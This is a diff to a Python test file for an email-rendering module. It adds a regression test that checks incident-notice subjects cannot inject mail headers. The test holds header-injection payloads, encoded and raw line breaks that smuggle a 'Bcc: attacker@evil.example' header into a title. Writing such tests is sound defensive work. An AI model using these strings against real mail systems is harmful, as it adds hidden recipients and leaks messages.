@@ -1,6 +1,10 @@
 """Letters, whole, in both languages: short, with the number in the subject and a link."""
 
+import base64
+import email
 from datetime import UTC, datetime, timedelta
+from email.message import EmailMessage
+from email.policy import SMTP
 
 import pytest
 from msgspec.structs import replace
@@ -222,3 +226,23 @@ def test_a_brief_says_names_and_counts():
     text = render([notice(brief=brief)], "fr", URL).text
     assert "app-09 et 4 autre(s)." in text
     assert "entre les mains de Karim Haddad" in text
+
+
+@pytest.mark.parametrize(
+    "said",
+    [
+        "=?utf-8?q?PDU=0ABcc:_attacker=40evil.example?=",
+        "=?utf-8?b?" + base64.b64encode(b"x\r\nBcc: attacker@evil.example").decode() + "?=",
+        "PDU\r\nBcc: attacker@evil.example",
+        "PDU\u2028Bcc: attacker@evil.example",
+        "=?=?utf-8?q?=0ABcc:_attacker=40evil.example?=",
+    ],
+)
+@pytest.mark.parametrize("count", [1, 2])
+def test_a_source_writes_no_header_of_ours(said, count):
+    """Python 3.11.7 decodes an encoded word when a header is set, line breaks included: a real Bcc was sent."""
+    brief = replace(BRIEF, title=Label(fr=said, en=said))
+    letter = render([notice(brief=brief, incident=number) for number in range(count)], "en", URL)
+    mail = EmailMessage()
+    mail["Subject"] = letter.subject
+    assert email.message_from_bytes(mail.as_bytes(policy=SMTP)).keys() == ["Subject"]
